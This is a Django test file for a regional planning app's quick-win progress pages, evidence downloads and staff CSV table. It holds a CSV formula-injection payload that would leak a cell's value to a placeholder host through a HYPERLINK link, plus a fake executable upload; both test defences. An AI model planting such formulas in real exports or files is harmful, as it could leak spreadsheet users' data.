"""Quick-win follow-up pages: the region reports, mentors and staff read, the table flags lag."""

import csv
import io
from datetime import timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from masterplan.models import Plan, QuickWinUpdate
from tests.masterplan.helpers import full_plan
from tests.masterplan.url_expectations_followup import approved_plan, first_quick_win, post_update
from tests.partners.url_expectations_mou import make_pdf

pytestmark = pytest.mark.django_db

EXE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200


@pytest.fixture
def plan(world):
    return approved_plan(world)


@pytest.fixture
def quick_win(plan):
    """Started 90 days ago, six months long: about half done by now."""
    programme = first_quick_win(plan)
    programme.quick_win_start = timezone.localdate() - timedelta(days=90)
    programme.quick_win_months = 6
    programme.save()
    return programme


def progress_url(programme):
    return reverse("quick_win_progress", args=[programme.plan_id, programme.pk])


def form(**extra):
    return {"percent": 45, "status": "on_track", "note": "Aplikasi perizinan diuji.", **extra}


# --- the progress page -------------------------------------------------------------------------


def test_the_official_posts_progress_and_sees_it_in_the_history(client, world, quick_win):
    client.force_login(world.official)
    assert 'name="percent"' in client.get(progress_url(quick_win)).text

    response = client.post(progress_url(quick_win), form())

    assert response.status_code == 302 and response.url == progress_url(quick_win)
    update = QuickWinUpdate.objects.get()
    assert (update.programme, update.percent, update.created_by) == (quick_win, 45, world.official)
    page = client.get(progress_url(quick_win)).text
    assert "Aplikasi perizinan diuji." in page and "45%" in page


def test_bad_input_is_shown_again_with_the_values_kept(client, world, quick_win):
    client.force_login(world.official)

    response = client.post(progress_url(quick_win), form(percent=150, status=""))

    assert response.status_code == 400
    assert 'value="150"' in response.text
    assert "Aplikasi perizinan diuji." in response.text
    assert "Persen selesai antara 0 dan 100." in response.text
    assert "Pilih status progres." in response.text
    assert not QuickWinUpdate.objects.exists()


def test_a_renamed_executable_is_refused_on_the_form(client, world, quick_win, private_root):
    client.force_login(world.official)

    response = client.post(
        progress_url(quick_win), form(evidence=SimpleUploadedFile("bukti.pdf", EXE))
    )

    assert response.status_code == 400
    assert "Berkas bukan PDF atau gambar (JPEG/PNG) yang sah." in response.text
    assert 'value="45"' in response.text
    assert not QuickWinUpdate.objects.exists()


@pytest.mark.parametrize("who", ["mentor", "staff"])
def test_mentors_and_staff_read_the_history_but_do_not_post(client, world, quick_win, who):
    post_update(world, quick_win, percent=30)
    client.force_login(getattr(world, who))

    page = client.get(progress_url(quick_win))
    assert page.status_code == 200
    assert "30%" in page.text and 'name="percent"' not in page.text

    assert client.post(progress_url(quick_win), form()).status_code == 403
    assert QuickWinUpdate.objects.count() == 1


@pytest.mark.parametrize("who", ["partner", "assessor"])
def test_other_roles_are_refused_the_progress_page(client, world, quick_win, who):
    client.force_login(getattr(world, who))
    assert client.get(progress_url(quick_win)).status_code == 403
    assert client.post(progress_url(quick_win), form()).status_code == 403
    assert not QuickWinUpdate.objects.exists()


@pytest.mark.parametrize("who", ["other_official", "other_mentor"])
def test_another_regions_people_are_told_the_quick_win_does_not_exist(
    client, world, quick_win, who
):
    client.force_login(getattr(world, who))
    assert client.get(progress_url(quick_win)).status_code == 404
    assert client.post(progress_url(quick_win), form()).status_code == 404
    assert not QuickWinUpdate.objects.exists()


def test_a_programme_that_is_no_quick_win_or_of_another_plan_is_not_found(
    client, world, plan, quick_win
):
    client.force_login(world.official)
    ordinary = plan.programmes.filter(is_quick_win=False).first()
    assert client.get(progress_url(ordinary)).status_code == 404
    other = full_plan(world, region=world.other_region)
    url = reverse("quick_win_progress", args=[other.pk, quick_win.pk])
    assert client.get(url).status_code == 404


def test_a_quick_win_of_a_plan_not_yet_approved_has_no_progress_page(client, world):
    plan = full_plan(world)
    client.force_login(world.official)
    assert client.get(progress_url(first_quick_win(plan))).status_code == 404


# --- evidence ----------------------------------------------------------------------------------


@pytest.fixture
def evidence(world, quick_win, private_root):
    pdf = make_pdf()
    update = post_update(world, quick_win, evidence=SimpleUploadedFile("bukti tahap 1.pdf", pdf))
    return update, pdf


@pytest.mark.parametrize("who", ["official", "mentor", "staff"])
def test_evidence_downloads_for_the_region_its_mentor_and_staff(client, world, evidence, who):
    update, pdf = evidence
    client.force_login(getattr(world, who))

    response = client.get(reverse("quick_win_evidence", args=[update.pk]))

    assert response.status_code == 200
    assert b"".join(response.streaming_content) == pdf
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment")
    assert response["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize(
    ("who", "status"), [("partner", 403), ("other_official", 404), ("other_mentor", 404)]
)
def test_evidence_is_never_served_to_partners_or_other_regions(
    client, world, evidence, who, status
):
    client.force_login(getattr(world, who))
    assert client.get(reverse("quick_win_evidence", args=[evidence[0].pk])).status_code == status


def test_an_update_without_evidence_has_nothing_to_download(client, world, quick_win):
    update = post_update(world, quick_win)
    client.force_login(world.official)
    assert client.get(reverse("quick_win_evidence", args=[update.pk])).status_code == 404


# --- the plan page -----------------------------------------------------------------------------


def test_the_plan_page_shows_expected_and_actual_progress_and_the_lag(client, world, quick_win):
    post_update(world, quick_win, percent=10)  # about 49% expected after 90 of 181 days
    client.force_login(world.official)

    page = client.get(reverse("plan_detail", args=[quick_win.plan_id])).text

    assert 'id="plan-quick-win-followup"' in page
    assert page.count('id="quick-win-') == 3
    assert "Progres 10% di bawah target 49% menurut jadwal." in page
    assert 'value="49"' in page and 'value="10"' in page
    assert progress_url(quick_win) in page and "Laporkan progres" in page


def test_mentors_see_the_follow_up_without_the_posting_link(client, world, quick_win):
    client.force_login(world.mentor)
    page = client.get(reverse("plan_detail", args=[quick_win.plan_id])).text
    assert 'id="plan-quick-win-followup"' in page and "Laporkan progres" not in page


def test_partners_and_unapproved_plans_show_no_follow_up(client, world, quick_win):
    client.force_login(world.partner)
    page = client.get(reverse("plan_detail", args=[quick_win.plan_id]))
    assert page.status_code == 200 and 'id="plan-quick-win-followup"' not in page.text
    Plan.objects.filter(pk=quick_win.plan_id).update(status=Plan.Status.ENDORSED)
    client.force_login(world.official)
    page = client.get(reverse("plan_detail", args=[quick_win.plan_id]))
    assert page.status_code == 200 and 'id="plan-quick-win-followup"' not in page.text


# --- the staff table ---------------------------------------------------------------------------


def table(client, **params):
    return client.get(reverse("quick_win_table"), params)


def test_staff_see_every_quick_win_with_its_lag(client, world, quick_win):
    post_update(world, quick_win, percent=10)
    approved_plan(world, region=world.other_region, official=world.other_official)
    client.force_login(world.staff)

    response = table(client)

    assert response.status_code == 200
    assert response.text.count("<tr") == 1 + 6  # the header and both regions' three quick wins
    assert "Kabupaten Sukoharjo" in response.text and "Kota Bandung" in response.text
    assert response.text.count('class="table-danger"') == 1
    assert "Progres 10% di bawah target" in response.text
    lagging = table(client, lagging="1")
    assert lagging.text.count("<tr") == 1 + 1


def test_the_table_filters_by_cohort(client, world, plan):
    client.force_login(world.staff)
    assert table(client, cohort="2018").text.count("<tr") == 1 + 3
    assert "Tidak ada quick win yang cocok." in table(client, cohort="2030").text


def test_the_table_exports_csv(client, world, quick_win):
    post_update(world, quick_win, percent=10, status="blocked")
    client.force_login(world.staff)

    response = table(client, format="csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    lines = response.content.decode("utf-8-sig").strip().splitlines()
    assert len(lines) == 1 + 3
    assert lines[0].startswith("Kode wilayah,Wilayah,Angkatan,Program")
    row = next(line for line in lines if quick_win.name in line)
    assert ",10,Terhambat," in row and ",ya," in row


def test_the_csv_neutralises_a_formula_in_an_officials_programme_name(client, world, quick_win):
    # The name as an official could type it in the plan editor: a spreadsheet would run it.
    quick_win.name = '=HYPERLINK("http://x"&A1,"klik")'
    quick_win.save()
    client.force_login(world.staff)

    response = table(client, format="csv")

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = [row[3] for row in rows[1:]]
    assert '\'=HYPERLINK("http://x"&A1,"klik")' in names
    assert not any(name.startswith("=") for name in names)


@pytest.mark.parametrize("who", ["official", "mentor", "partner", "assessor"])
def test_the_table_is_the_ministrys(client, world, who):
    client.force_login(getattr(world, who))
    assert table(client).status_code == 403


@pytest.mark.parametrize("n", [3, 12])
def test_the_table_runs_the_same_queries_for_any_number_of_quick_wins(
    client, world, django_assert_num_queries, n
):
    plan = approved_plan(world, programmes_per_dimension=n // 6 or 1)
    if n > 3:
        plan.programmes.update(is_quick_win=True, quick_win_months=9)
    for programme in plan.programmes.filter(is_quick_win=True).select_related("plan__candidate"):
        post_update(world, programme, percent=20)
    client.force_login(world.staff)

    # 1. the session, 2. the user, 3. the quick wins with plan, region and cohort and their
    # latest update's percent, status and time as subqueries, 4. the cohorts for the filter,
    # 5. the second-factor device of the staff session (django-otp).
    with django_assert_num_queries(5):
        response = table(client)

    assert response.text.count("<tr") == 1 + n


@pytest.mark.parametrize("n", [1, 5])
def test_the_history_runs_the_same_queries_for_any_number_of_updates(
    client, world, quick_win, django_assert_num_queries, n
):
    for percent in range(n):
        post_update(world, quick_win, percent=percent * 10)
    client.force_login(world.mentor)

    # 1. the session, 2. the user, 3. the quick win with plan, region, cohort, its latest
    # update and the mentor's active assignment, 4. its updates with their authors.
    with django_assert_num_queries(4):
        response = client.get(progress_url(quick_win))

    assert response.text.count("<tr") == 1 + n


def test_unwritable_storage_is_explained_on_the_form_and_keeps_the_input(
    client, world, quick_win, settings, tmp_path
):
    # A file where the storage folder should be: every write fails with an OSError, as on a
    # read-only mount or a full disk (the tests run as root, which chmod cannot stop).
    (tmp_path / "blocked").write_text("not a folder")
    root = tmp_path / "blocked" / "private"
    settings.STORAGES = {
        **settings.STORAGES,
        "private": {**settings.STORAGES["private"], "OPTIONS": {"location": root}},
    }
    client.force_login(world.official)

    response = client.post(
        progress_url(quick_win), form(evidence=SimpleUploadedFile("bukti.pdf", make_pdf()))
    )

    assert response.status_code == 400
    assert "Berkas tidak dapat disimpan; coba lagi nanti." in response.text
    assert 'value="45"' in response.text and "Aplikasi perizinan diuji." in response.text
    assert not QuickWinUpdate.objects.exists()
